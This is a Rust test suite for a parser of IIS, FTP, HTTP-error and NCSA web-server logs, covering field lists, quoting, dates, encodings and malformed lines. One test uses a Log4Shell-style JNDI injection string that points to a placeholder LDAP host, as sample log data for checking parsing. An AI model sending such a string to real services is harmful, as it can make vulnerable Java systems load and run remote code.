use super::*;
use crate::record::Value;
use crate::{Encoding, Kind, detect};
use proptest::prelude::*;
use std::io::Read;

/// Hands out a few bytes at a time, so that lines straddle reads.
struct Drip<'a>(&'a [u8], usize);

impl Read for Drip<'_> {
    fn read(&mut self, to: &mut [u8]) -> std::io::Result<usize> {
        let n = self.1.min(self.0.len()).min(to.len());
        let (now, later) = self.0.split_at(n);
        to[..n].copy_from_slice(now);
        self.0 = later;
        Ok(n)
    }
}

/// An item in words: place, time or reason, fields that are not null.
fn items(bytes: &[u8], drip: usize) -> Vec<String> {
    let options = Options { record_bytes_max: 4096, ..Options::default() };
    let lines = LineReader::new(Drip(bytes, drip), Encoding::detect(bytes), options.record_bytes_max);
    let mut reader = Reader::new(lines, &options);
    let mut found = vec![];
    let mut end = 0;
    loop {
        // What is borrowed from the reader ends here, so that names can be asked for.
        let (range, time, reason, fields) = match reader.next_item().unwrap() {
            None => break,
            Some(Item::Reject(r)) => (r.bytes, None, Some(r.reason), vec![]),
            Some(Item::Record(r)) => {
                let fields: Vec<(NameId, String)> = r
                    .fields()
                    .filter_map(|(id, value)| match value {
                        Value::Null => None,
                        Value::Text(text) => Some((id, text.to_owned())),
                        other => panic!("{other:?}"),
                    })
                    .collect();
                (r.bytes(), r.time(), None, fields)
            }
        };
        assert!(range.start >= end && range.end >= range.start && range.end <= reader.position());
        end = range.end;
        let fields: Vec<String> = fields.iter().map(|(id, v)| format!("{}={v}", reader.names().get(*id))).collect();
        let kind = reason.map_or_else(|| format!("{time:?}"), |r| r.to_string());
        found.push(format!("{}..{} {kind} {}", range.start, range.end, fields.join("; ")));
    }
    assert_eq!(reader.position(), bytes.len() as u64);
    found
}

/// The fields or reasons of a text's items, without places and times.
fn fields(text: &str) -> Vec<String> {
    items(text.as_bytes(), 7).iter().map(|i| i.splitn(3, ' ').nth(2).unwrap().to_owned()).collect()
}

fn reasons(text: &str) -> Vec<String> {
    items(text.as_bytes(), 7).iter().map(|i| i.split(' ').nth(1).unwrap().to_owned()).collect()
}

/// Times of a text's items, as UTC clock on days after the first.
fn times(text: &str) -> Vec<Option<i64>> {
    let parse = |i: &String| {
        i.split(' ').nth(1).unwrap().strip_prefix("Some(").map(|t| t.trim_end_matches(')').parse().unwrap())
    };
    items(text.as_bytes(), 7).iter().map(parse).collect()
}

fn at(text: &str) -> Option<i64> {
    crate::time::iso(text, 0)
}

#[test]
fn w3c_goes_by_the_field_list() {
    let log = "#Software: Microsoft Internet Information Services 10.0\r\n#Date: 2026-11-02 10:00:00\r\n\
        #Fields: date time cs-method cs-uri-stem cs-uri-query cs-username cs(User-Agent) sc-status \r\n\
        2026-11-02 10:00:01 GET /a+b x=1+2 NORTHWIND\\ana.lima Mozilla/5.0+(bot;++http://example.org/) 200\r\n\
        #Fields: sc-status time date c-ip\r\n\
        404 10:00:02 2026-11-02 192.0.2.1\r\n";
    assert_eq!(
        fields(log),
        [
            "log-form=w3c; cs-method=GET; cs-uri-stem=/a+b; cs-uri-query=x=1+2; cs-username=NORTHWIND\\ana.lima; \
             cs(User-Agent)=Mozilla/5.0 (bot; +http://example.org/); sc-status=200",
            "log-form=w3c; sc-status=404; c-ip=192.0.2.1",
        ]
    );
    assert_eq!(times(log), [at("2026-11-02T10:00:01"), at("2026-11-02T10:00:02")]);
}

#[test]
fn a_plus_is_a_blank_only_where_blanks_are() {
    let log = "#Fields: time cs-username cs(Referer)\n\
        10:00:00 Ana+Lima http://example.org/?q=a+b\n10:00:00 ana+lists@northwind.example -\n";
    assert_eq!(
        fields(log),
        [
            "log-form=w3c; time=10:00:00; cs-username=Ana Lima; cs(Referer)=http://example.org/?q=a+b",
            "log-form=w3c; time=10:00:00; cs-username=ana+lists@northwind.example",
        ]
    );
    assert_eq!(times(log), [None, None]);
}

#[test]
fn dates_come_from_the_header_and_roll_at_midnight() {
    let log = "#Date: 2026-11-02 23:00:00\n#Fields: time cs-method\n\
        23:59:58 GET\n00:00:01 GET\n23:59:59 GET\n00:00:02 GET\n08:00:00 GET\n07:59:58 GET\n03:00:00 GET\n\
        #Date: 2026-12-24 12:00:00\n12:00:01 GET\n";
    let want = [
        "2026-11-02T23:59:58",
        "2026-11-03T00:00:01",
        "2026-11-02T23:59:59",
        "2026-11-03T00:00:02",
        "2026-11-03T08:00:00",
        "2026-11-03T07:59:58",
        "2026-11-04T03:00:00",
        "2026-12-24T12:00:01",
    ];
    assert_eq!(times(log), want.map(at));
    assert_eq!(times("#Date: 02-Nov-2026 10:00\n#Fields: time cs-method\n10:00 GET\n"), [at("2026-11-02T10:00:00")]);
}

#[test]
fn a_time_that_does_not_exist_is_kept_as_fields() {
    let log =
        "#Fields: date time cs-method\n2026-02-30 10:00:00 GET\n- - GET\nfree text here\n2026-11-02 10:00:00.250 GET\n";
    assert_eq!(
        fields(log),
        [
            "log-form=w3c; date=2026-02-30; time=10:00:00; cs-method=GET",
            "log-form=w3c; cs-method=GET",
            "",
            "log-form=w3c; cs-method=GET"
        ]
    );
    assert_eq!(reasons(log)[2], "unknown_form");
    assert_eq!(times(log)[3], at("2026-11-02T10:00:00.25"));
}

#[test]
fn ftp_and_http_errors_have_their_own_form() {
    let ftp = "#Fields: date time c-ip cs-username s-ip s-port cs-method cs-uri-stem sc-status sc-win32-status sc-substatus x-session x-fullpath\n\
        2026-11-02 10:00:00 192.0.2.1 - 192.0.2.2 21 PASS *** 230 0 0 9eb0dc66-8734-4c46-81f0-e6c3cd6b5982 /\n";
    assert!(fields(ftp)[0].starts_with("log-form=ftp; c-ip=192.0.2.1; s-ip="));
    let old = "#Date: 2026-11-02 10:00:00\n#Fields: time c-ip cs-method cs-uri-stem sc-status\n10:00:00 192.0.2.1 [12]USER anonymous 331\n";
    assert_eq!(
        fields(old),
        ["log-form=ftp; c-ip=192.0.2.1; cs-method=USER; cs-uri-stem=anonymous; sc-status=331; x-session=12"]
    );
    let errors = "#Software: Microsoft HTTP API 2.0\n\
        #Fields: date time c-ip c-port s-ip s-port cs-version cs-method cs-uri sc-status s-siteid s-reason s-queuename\n\
        2026-11-02 10:00:00 2001:db8::1 50000 2001:db8::2 80 HTTP/1.1 GET /x?y=1 400 - Hostname My+Pool\n\
        2026-11-02 10:00:01 203.0.113.66 50000 192.0.2.2 80 - - - - - Timer_ConnectionIdle -\n";
    assert!(fields(errors)[0].ends_with("cs-uri=/x?y=1; sc-status=400; s-reason=Hostname; s-queuename=My Pool"));
    assert!(fields(errors)[0].starts_with("log-form=httperr; "));
    assert!(fields(errors)[1].ends_with("s-port=80; s-reason=Timer_ConnectionIdle"));
}

#[test]
fn appended_columns_are_unknown_fields() {
    let head = "#Fields: date time c-ip cs(User-Agent) sc-status\n";
    let log = format!("{head}2026-11-02 10:00:00 192.0.2.1 Agent/1.0 200 198.51.100.7 -\n");
    assert_eq!(
        fields(&log),
        ["log-form=w3c; c-ip=192.0.2.1; cs(User-Agent)=Agent/1.0; sc-status=200; extra_1=198.51.100.7"]
    );
    // A blank inside a value moves the others: nothing of it may land in a wrong column.
    let shifted = format!("{head}2026-11-02 10:00:00 192.0.2.1 Agent 1.0 200\n2026-11-02 10:00:00 192.0.2.1 A\n");
    assert_eq!(reasons(&shifted), ["field_count", "field_count"]);
    let cut = format!("{head}2026-11-02 10:00:00 192.0.2.1 Age");
    assert_eq!(reasons(&cut), ["truncated"]);
    let wide = format!("{head}2026-11-02 10:00:00 192.0.2.1 Agent 200{}\n", " x".repeat(EXTRA_MAX + 1));
    assert_eq!(reasons(&wide), ["field_count"]);
    let loose = format!("{head}2026-11-02\t10:00:00  192.0.2.1 Agent 200  \n");
    assert_eq!(fields(&loose), ["log-form=w3c; c-ip=192.0.2.1; cs(User-Agent)=Agent; sc-status=200"]);
}

#[test]
fn quotes_divide_only_where_they_must() {
    let fields_line = "#Fields: date time cs-uri-query cs(User-Agent) sc-status\n";
    let advanced = format!(
        "#Software: IIS Advanced Logging Module\n{fields_line}2026-11-02 10:00:00 \"a=\"\"b\"\"\" \"Agent 1 \\\"x\\\" +y\" 200\n\
         2026-11-02 10:00:01 \"C:\\dir\\\" \"Agent\" 200\n2026-11-02 10:00:02 - \"\" 200\n"
    );
    assert_eq!(
        fields(&advanced),
        [
            "log-form=advanced; cs-uri-query=a=\"b\"; cs(User-Agent)=Agent 1 \"x\" +y; sc-status=200",
            "log-form=advanced; cs-uri-query=C:\\dir\\; cs(User-Agent)=Agent; sc-status=200",
            "log-form=advanced; sc-status=200",
        ]
    );
    let more = format!(
        "#Software: IIS Advanced Logging Module\n{fields_line}2026-11-02 10:00:00 \"a b\" \"Agent\" 200 \"c d\" \n\
         2026-11-02 10:00:00 \"a b \"Agent\" 200 200 c\n"
    );
    assert_eq!(
        fields(&more),
        ["log-form=advanced; cs-uri-query=a b; cs(User-Agent)=Agent; sc-status=200; extra_1=c d", ""]
    );
    assert_eq!(reasons(&more)[1], "field_count");
    let plain = format!(
        "{fields_line}2026-11-02 10:00:00 \"x|${{jndi:ldap://203.0.113.66/a}}' \"y 200\n2026-11-02 10:00:01 q \"Agent 1.0\" 200\n"
    );
    assert_eq!(
        fields(&plain),
        [
            "log-form=w3c; cs-uri-query=\"x|${jndi:ldap://203.0.113.66/a}'; cs(User-Agent)=\"y; sc-status=200",
            "log-form=w3c; cs-uri-query=q; cs(User-Agent)=Agent 1.0; sc-status=200",
        ]
    );
}

#[test]
fn comments_blanks_and_padding_are_framing() {
    let log = "\0\0\n\n#Fields: date time cs-method\n# a remark: \"not a directive\"\n#\n \t\n2026-11-02 10:00:00 GET\n\0\0\0\0\u{feff}#Remark: x\n\0\0";
    assert_eq!(fields(log), ["log-form=w3c; cs-method=GET"]);
    assert_eq!(reasons("2026-11-02 10:00:00 GET\n#Fields:\n2026-11-02 10:00:00 GET\n"), ["no_field_list"; 2]);
    assert_eq!(reasons("#Fields: date time cs-method\n2026-11-02 10:00\0\0:00 GET x y z\n"), ["binary"]);
    assert_eq!(reasons(&format!("#Fields: date time cs-method\n{}\n", "x".repeat(5000))), ["too_long"]);
}

#[test]
fn every_encoding_reads() {
    let text = "#Fields: date time cs-uri-stem\r\n2026-11-02 10:00:00 /gr\u{fc}n\r\n";
    let want = ["log-form=w3c; cs-uri-stem=/gr\u{fc}n"];
    let latin: Vec<u8> = text.chars().map(|c| u8::try_from(u32::from(c)).unwrap()).collect();
    let wide = |f: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(f).collect::<Vec<u8>>();
    for bytes in [text.as_bytes().to_vec(), latin, wide(u16::to_le_bytes), wide(u16::to_be_bytes)] {
        let got: Vec<String> = items(&bytes, 5).iter().map(|i| i.splitn(3, ' ').nth(2).unwrap().to_owned()).collect();
        assert_eq!(got, want);
        assert_eq!(detect(&bytes).kind, Some(Kind::Iis));
    }
}

#[test]
fn native_form() {
    let log = "192.0.2.7, NORTHWIND\\ana.lima, 11/02/26, 7:55:20, W3SVC2, WEB1, 192.0.2.20, 4502, 163, 3223, 200, 0, GET, /a,b.gif, x=1,\n\
        192.0.2.7, -, 13/02/2026, 7:55:20, MSFTPSVC1, WEB1, 192.0.2.20, 60, 275, 0, 0, 0, PASS, /intro.htm, -,\nnonsense\n";
    assert_eq!(
        fields(log)[0],
        "log-form=iis; c-ip=192.0.2.7; cs-username=NORTHWIND\\ana.lima; s-sitename=W3SVC2; s-computername=WEB1; s-ip=192.0.2.20; \
         time-taken=4502; cs-bytes=163; sc-bytes=3223; sc-status=200; sc-win32-status=0; cs-method=GET; cs-uri-stem=/a,b.gif; cs-uri-query=x=1"
    );
    assert!(fields(log)[1].contains("date=13/02/2026; time=7:55:20; s-sitename=MSFTPSVC1"));
    assert_eq!(times(log)[..2], [at("2026-11-02T07:55:20"), None]);
    assert_eq!(reasons(log)[2], "unknown_form");
    assert_eq!(detect(log.as_bytes()).seen, "an IIS log (native form)");
}

#[test]
fn ncsa_forms() {
    let log = "192.0.2.7 - NORTHWIND\\ana lima [02/Nov/2026:10:00:00 +0100] \"GET /a?b=\"c\" HTTP/1.1\" 200 3401\n\
        web7.example.org - - [02/Nov/2026:10:00:00 +0000] \"-\" 400 - \"http://example.org/\" \"Agent \\\"x\\\"\" \"k=v\" 17\n\
        192.0.2.7 - - [02/Nov/2026:10:00:00 +0000] \"HEAD /\" 200 0 \"-\" \"-\"\n";
    assert_eq!(
        fields(log),
        [
            "log-form=ncsa; c-ip=192.0.2.7; cs-username=NORTHWIND\\ana lima; cs-method=GET; cs-uri-stem=/a; cs-uri-query=b=\"c\"; \
             cs-version=HTTP/1.1; sc-status=200; sc-bytes=3401",
            "log-form=ncsa; remote-host=web7.example.org; sc-status=400; cs(Referer)=http://example.org/; \
             cs(User-Agent)=Agent \"x\"; cs(Cookie)=k=v; extra_1=17",
            "log-form=ncsa; c-ip=192.0.2.7; cs-method=HEAD; cs-uri-stem=/; sc-status=200; sc-bytes=0",
        ]
    );
    assert_eq!(times(log)[0], at("2026-11-02T09:00:00"));
    assert_eq!(detect(log.as_bytes()).seen, "a web server log (NCSA form)");
}

#[test]
fn other_logs_are_not_taken() {
    for other in [
        "Nov  2 10:00:00 host sshd[1]: Failed password for x from 192.0.2.1 port 5 ssh2\n",
        "[Mon Nov 02 10:00:00 2026] [error] [client 192.0.2.1] File does not exist: /x\n",
        "#Software: Microsoft Exchange Server\n#Fields: date-time,client-ip,cs-method\n2026-11-02T10:00:00Z,192.0.2.1,x\n",
        "#Version: 1.5\n#Software: Microsoft Windows Firewall\n#Fields: date time action protocol src-ip dst-ip\n",
        "a, b, c\n1, 2, 3\n",
        "",
    ] {
        let lines: Vec<String> = other.lines().map(str::to_owned).collect();
        assert_eq!(looks(&lines), None, "{other}");
    }
}

/// Pieces that make lines of every form, whole and broken.
fn pieces() -> impl Strategy<Value = Vec<u8>> {
    let piece = prop_oneof![
        Just(&b"#Fields: date time c-ip cs-method cs(User-Agent) sc-status\n"[..]),
        Just(&b"#Fields: time cs-username\r\n"[..]),
        Just(&b"#Software: IIS Advanced Logging Module\n"[..]),
        Just(&b"#Date: 2026-11-02 23:00:00\n"[..]),
        Just(&b"2026-11-02 10:00:00 192.0.2.1 GET \"a+b\" 200\n"[..]),
        Just(&b"2026-11-02 10:00:00 192.0.2.1 GET \"a \"\" b\" 200 x\n"[..]),
        Just(&b"192.0.2.7, -, 11/02/26, 7:55:20, W3SVC2, WEB1, 192.0.2.20, 4, 1, 3, 200, 0, GET, /, -,\n"[..]),
        Just(&b"192.0.2.7 - - [02/Nov/2026:10:00:00 +0100] \"GET / HTTP/1.1\" 200 3 \"\" \"\n"[..]),
        Just(&b"23:59:59 [1]x\n"[..]),
        Just(&b"\n"[..]),
        Just(&b" "[..]),
        Just(&b"\""[..]),
        Just(&b"[1]"[..]),
        Just(&b"\xfc\xff"[..]),
        Just(&b"\0"[..]),
    ];
    let any = prop_oneof![4 => piece.prop_map(<[u8]>::to_vec), 1 => prop::collection::vec(any::<u8>(), 0..20)];
    prop::collection::vec(any, 0..20).prop_map(|p| p.concat())
}

proptest! {
    #[test]
    fn any_bytes_give_the_same_items_however_they_arrive(bytes in pieces(), drip in 1..40usize) {
        let found = items(&bytes, drip);
        prop_assert_eq!(&found, &items(&bytes, 100_000));
        // Each line that is neither blank nor a comment is one item.
        let mut lines = LineReader::new(&bytes[..], Encoding::detect(&bytes), 4096);
        let mut places = vec![];
        while let Some(line) = lines.advance().unwrap() {
            let text = lines.text();
            if line.too_long || !(text.trim_ascii().is_empty() || text.trim_start_matches('\u{feff}').starts_with('#')) {
                places.push(format!("{}..{}", line.bytes.start, line.bytes.end));
            }
        }
        let got: Vec<&str> = found.iter().map(|i| i.split(' ').next().unwrap()).collect();
        prop_assert_eq!(got, places);
        let _ = detect(&bytes);
    }

    #[test]
    fn plain_lines_come_back(values in prop::collection::vec("[!-~]{1,12}", 1..12), blank in prop::collection::vec(any::<bool>(), 12)) {
        let values: Vec<&str> = values.iter().zip(&blank).map(|(v, b)| if *b { "-" } else { v.as_str() }).collect();
        let names: Vec<String> = (0..values.len()).map(|i| format!("cs-f{i}")).collect();
        prop_assume!(!values[0].starts_with('#'));
        let log = format!("#Fields: {}\n{}\n", names.join(" "), values.join(" "));
        let want: Vec<String> = std::iter::once("log-form=w3c".to_owned())
            .chain(names.iter().zip(&values).filter(|(_, v)| **v != "-").map(|(n, v)| format!("{n}={v}")))
            .collect();
        prop_assert_eq!(fields(&log), [want.join("; ")]);
    }
}
